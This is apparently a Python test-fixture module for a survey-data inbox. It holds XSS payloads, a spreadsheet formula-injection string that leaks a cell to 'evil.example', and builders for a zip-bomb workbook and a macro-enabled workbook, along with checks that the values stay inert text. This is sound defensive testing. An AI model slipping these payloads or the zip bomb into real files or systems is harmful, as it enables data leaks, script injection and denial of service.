"""Hostile input for tests and benchmarks: values that try to become markup or formulas, checks that
they did not (on the parsed DOM / the workbook's own cells), and hostile files built for real
(a zip bomb, a workbook with macros, a 1,000,000-row CSV …).

Reused by the inbox tests, bench/inbox_hostile.py and later features (report, ledgers): a value
from data must reach HTML as text and a workbook as a string cell.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path

# --- values ---------------------------------------------------------------------------------------

MARKUP = "<img src=x onerror=alert(1)>"
MARKUP_VALUES = [
    MARKUP,
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "区市场监管局<b onmouseover=alert(1)>加粗</b>",
    "<a href=javascript:alert(1)>点我</a>",
]
# strings a spreadsheet would take for a formula (CSV/XLSX injection), with their leading tab/CR forms
FORMULA_VALUES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_VALUES = MARKUP_VALUES + FORMULA_VALUES


# --- checks ---------------------------------------------------------------------------------------


class _Dom(HTMLParser):
    """Start tags (name, attributes, the text right after the tag) and all text of a document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None], list[str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs), []))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)
        if self.tags and not self.tags[-1][2]:
            self.tags[-1][2].append(data)


def dom(html: str) -> _Dom:
    d = _Dom()
    d.feed(html)
    d.close()
    return d


def assert_text_not_markup(html: str, value: str) -> None:
    """`value` is in the document's text, and none of the elements it would make if pasted raw —
    same tag, same attributes, same text after it — is in the document's DOM (a page may have
    scripts and handlers of its own, as Data Docs do)."""
    doc = dom(html)
    would_make = dom(value).tags
    assert would_make, f"{value!r} makes no markup: not a test of escaping"
    for tag, attrs, after in would_make:
        hits = [
            (t, a)
            for t, a, text in doc.tags
            if t == tag
            and all(a.get(k) == v for k, v in attrs.items())
            and (attrs or "".join(text).strip() == "".join(after).strip())
        ]
        assert not hits, f"{value!r} became markup: {hits}"
    text = re.sub(r"\s+", " ", "".join(doc.text))
    assert re.sub(r"\s+", " ", value) in text, f"{value!r} is not shown as text"


def assert_no_formulas(xlsx: Path | bytes) -> None:
    """No cell of any sheet is a formula: openpyxl's reading of the cells, and the sheets' XML (no <f>)."""
    from openpyxl import load_workbook

    data = xlsx if isinstance(xlsx, bytes) else Path(xlsx).read_bytes()
    wb = load_workbook(io.BytesIO(data))
    formulas = [
        (ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
        if c.data_type == "f"
    ]  # fmt: skip
    assert not formulas, f"formula cells: {formulas[:10]}"
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(?:\w+:)?f[ >/]", zf.read(name)), f"<f> element in {name}"


# --- files ----------------------------------------------------------------------------------------

SCJ = "113604210795604218"  # 区市场监督管理局 (aliases 区市场监管局, 区市监局)
FGJ = "11360421082036794P"  # 区发展和改革局
SURVEY_HEADERS = ["问卷编号", "填报日期", "统一社会信用代码", "评价对象单位", "评价维度", "得分"]
USCC_A = "91110000600037341L"
GOOD_SURVEY = [
    ["Q001", "2026-05-10", USCC_A, "区市场监管局", "总体", "5"],
    ["Q002", "2026-05-11", USCC_A, "区发改局", "总体", "4"],
]


def csv_bytes(rows: list[list], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def good_survey_csv() -> bytes:
    """Two valid 满意度调查 rows (accepted, 2 rows landed)."""
    return csv_bytes([SURVEY_HEADERS, *GOOD_SURVEY])


def survey_rows(n: int, start: int = 0):
    """n valid 满意度调查 rows, each its own questionnaire (so no duplicate key)."""
    for i in range(start, start + n):
        yield [f"Q{i:07d}", "2026-05-10", USCC_A, "区市场监管局", "总体", str(1 + i % 5)]


def write_survey_csv(path: Path, n: int, start: int = 0) -> Path:
    """A real CSV of `n` data rows, written in slices (never whole in memory)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\r\n")
        w.writerow(SURVEY_HEADERS)
        w.writerows(survey_rows(n, start))
    return path


def workbook(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated parts: (name, deflated bytes, crc32, uncompressed size)."""
    out, central = io.BytesIO(), []
    for name, body, crc, size in entries:
        n = name.encode()
        central.append((n, crc, len(body), size, out.tell()))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), size, len(n), 0))
        out.write(n + body)
    start = out.tell()
    for n, crc, csize, size, offset in central:
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                csize,
                size,
                len(n),
                0,
                0,
                0,
                0,
                0,
                offset,
            )  # fmt: skip
        )
        out.write(n)
    end = out.tell()
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), end - start, start, 0))
    return out.getvalue()


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def zip_bomb_xlsx(inflated_bytes: int = 2 * 2**30) -> bytes:
    """A real .xlsx whose first sheet is one cell of `inflated_bytes` 'A's (default 2 GiB), deflated
    to about a thousandth: a valid workbook (every other part is openpyxl's own) that openpyxl
    would inflate into one giant string. The repeated 16 MiB slice is deflated once and its
    full-flushed block repeated, so the file is built in seconds, not minutes."""
    base = zipfile.ZipFile(io.BytesIO(workbook([["x"]])))
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
    )
    tail = b"</t></is></c></row></sheetData></worksheet>"
    piece = b"A" * (16 * 2**20)
    copies = max(1, inflated_bytes // len(piece))

    def flushed(data: bytes, mode: int) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(mode)

    body = (
        flushed(head, zlib.Z_FULL_FLUSH)
        + flushed(piece, zlib.Z_FULL_FLUSH) * copies
        + flushed(tail, zlib.Z_FINISH)
    )
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(piece, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + copies * len(piece) + len(tail)
    entries = []
    for info in base.infolist():
        if info.filename == "xl/worksheets/sheet1.xml":
            entries.append((info.filename, body, crc, size))
        else:
            entries.append((info.filename, *_deflated(base.read(info))))
    return _raw_zip(entries)


def xlsm_with_macros() -> bytes:
    """A real macro-enabled workbook: openpyxl's parts, the macro-enabled content type and an
    xl/vbaProject.bin part (an OLE compound-file header, as Excel writes it) with its relationship."""
    src = zipfile.ZipFile(io.BytesIO(workbook([SURVEY_HEADERS, *GOOD_SURVEY])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "[Content_Types].xml":
                body = body.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                    b' Target="vbaProject.bin"/></Relationships>',
                )
            dst.writestr(info, body)
        dst.writestr(
            "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name"
        )
    return out.getvalue()


def wide_xlsx(columns: int = 16_384) -> bytes:
    """满意度调查 headers, then filler headers up to column `columns` (XFD), and two data rows."""
    extra = [f"备注{j}" for j in range(len(SURVEY_HEADERS) + 1, columns + 1)]
    return workbook([SURVEY_HEADERS + extra, *GOOD_SURVEY])


def big_cell_csv(chars: int = 1024 * 1024) -> bytes:
    """Two good rows and one whose 评价对象单位 cell holds `chars` characters (1 MB by default)."""
    rows = [SURVEY_HEADERS, *GOOD_SURVEY, ["Q003", "2026-05-12", USCC_A, "局" * chars, "总体", "3"]]
    return csv_bytes(rows)


def null_bytes_csv() -> bytes:
    return good_survey_csv().replace(b"Q002", b"Q0\x0002")


def invalid_utf8_csv() -> bytes:
    """UTF-8 with Chinese headers, then a broken byte sequence in line 3 (a cut 3-byte character)."""
    data = good_survey_csv()
    return data.replace("区发改局".encode(), "区发改".encode() + "局".encode()[:2])


HOSTILE_NAMES = {
    # 255 bytes: 满意度调查_2026Q2_ (23 bytes) + 74 × 3-byte 汉字 (222) + 6 × "x" + ".csv" (4)
    "long": "满意度调查_2026Q2_" + "长" * 74 + "xxxxxx.csv",
    "odd": "满意度调查..2026Q2 （更正） 📊✅.csv",
}
assert len(HOSTILE_NAMES["long"].encode()) == 255
